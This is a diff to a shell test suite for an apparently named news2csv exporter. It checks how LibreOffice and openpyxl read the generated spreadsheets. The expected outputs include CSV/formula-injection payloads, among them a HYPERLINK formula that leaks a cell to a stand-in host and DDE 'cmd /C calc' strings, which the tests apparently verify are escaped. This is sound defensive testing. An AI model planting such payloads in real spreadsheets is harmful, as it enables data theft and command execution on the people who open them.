@@ -56,17 +56,17 @@ IN
 		run -0 dump "$T/$f.fods"
 		refute_output --regexp $'\tf\t'
 	done
-	run -0 sh -c '"$1" "$2" | grep -E "^[CKS][234]	"' _ "$ROOT/tests/sheet-dump" "$T/guess.fods"
+	run -0 sh -c '"$1" "$2" | grep -E "^[CKU][234]	"' _ "$ROOT/tests/sheet-dump" "$T/guess.fods"
 	assert_output "$(cat <<'OUT'
 C2	s	'=HYPERLINK("http://x/?leak="&B2,"click")
 K2	n	-3.5
-S2	s	'=1+1 and so on
+U2	s	'=1+1 and so on
 C3	s	'+cmd|' /C calc'!A0
 K3	n	30
-S3	s	'@SUM(1+1)*cmd|' /C calc'!A0
+U3	s	'@SUM(1+1)*cmd|' /C calc'!A0
 C4	s	'-2+3
 K4	n	1470000000
-S4	s	'\t=2+5
+U4	s	'\t=2+5
 OUT
 )"
 }
@@ -87,7 +87,7 @@ IN
 	dump "$T/facts.fods" | grep -v '^#' >"$T/lo.txt"
 	run -0 diff "$T/openpyxl.txt" "$T/lo.txt"
 	run -1 grep $'\tf\t' "$T/lo.txt"
-	run -0 grep -E '^(C2|K2|J2|K3|L3|M3|J4|K4)	' "$T/lo.txt"
+	run -0 grep -E '^(C2|K2|J2|K3|M3|N3|J4|K4)	' "$T/lo.txt"
 	assert_output "$(cat <<'OUT'
 C2	s	=HYPERLINK("http://x/?leak="&B2,"click")
 J2	s	$3.5 million
@@ -100,8 +100,8 @@ C2	s	T
 J2	s	January 20
 K2	s	2025-01-20
 K3	s	2025-05
-L3	d	2025-05-01
-M3	d	2025-05-31
+M3	d	2025-05-01
+N3	d	2025-05-31
 J4	s	30%
 K4	s	P2Y
 OUT
@@ -142,8 +142,8 @@ def check(sheet, ref, expect):
     if got != expect:
         bad.append('%s!%s: got %r, want %r' % (sheet, ref, got, expect))
 
-for sheet, path, cols in (('figures', sys.argv[2], {'match': 'J', 'value': 'K', 'published': 'D', 'text': 'S'}),
-                          ('dates', sys.argv[3], {'match': 'J', 'value': 'K', 'from': 'L', 'to': 'M', 'published': 'D', 'text': 'R'})):
+for sheet, path, cols in (('figures', sys.argv[2], {'match': 'J', 'value': 'K', 'unit_text': 'N', 'per': 'O', 'published': 'D', 'text': 'U'}),
+                          ('dates', sys.argv[3], {'match': 'J', 'value': 'K', 'mod': 'L', 'from': 'M', 'to': 'N', 'published': 'D', 'text': 'S'})):
     for i, line in enumerate(open(path, encoding='utf-8')):
         r = json.loads(line)
         row = i + 2
@@ -206,4 +206,21 @@ C5	s	x
 D5	s	TRUE
 OUT
 )"
+}
+
+@test "news2csv --xlsx on the fixture articles: LibreOffice and openpyxl read facts.xlsx as the CSV files' rows, numbers numbers, dates dates, Chinese intact" {
+	need_libreoffice
+	need_openpyxl
+	run -0 news2csv -q --xlsx -o "$T/out"
+	lo_fods "$T/out/facts.xlsx"
+	dump "$T/out/facts.xlsx" >"$T/openpyxl.txt"
+	dump "$T/out/facts.fods" >"$T/lo.txt"
+	run -0 diff <(grep -v '^#' "$T/openpyxl.txt") <(grep -v '^#' "$T/lo.txt")
+	for reader in openpyxl lo; do
+		run -0 "$ROOT/tests/csv-vs-sheet" "$T/$reader.txt" figures="$T/out/figures.csv" dates="$T/out/dates.csv"
+		assert_line --index 2 'bad 0'
+		# rows, and many of each type (the counts move with extraction)
+		assert_line --index 0 --regexp '^figures: [0-9]{3,} rows, [0-9]{4,} numbers, [0-9]{2,} dates, [0-9]{4,} texts, [0-9]{4,} Han$'
+		assert_line --index 1 --regexp '^dates: [0-9]{3,} rows, [0-9]{4,} numbers, [0-9]{3,} dates, [0-9]{4,} texts, [0-9]{4,} Han$'
+	done
 }
